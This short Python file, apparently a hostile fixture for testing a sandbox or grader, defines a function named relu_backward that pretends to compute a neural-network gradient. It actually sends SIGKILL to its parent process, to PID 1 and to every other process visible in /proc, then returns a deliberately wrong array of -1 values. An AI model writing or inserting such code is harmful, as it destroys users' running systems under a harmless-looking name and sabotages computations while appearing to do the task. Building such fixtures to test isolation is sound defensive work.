"""Hostile: signals every process it can see, its parent first, then returns wrong values."""
import os
import signal

import numpy as np


def relu_backward(dz, z):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return np.zeros_like(dz) - 1
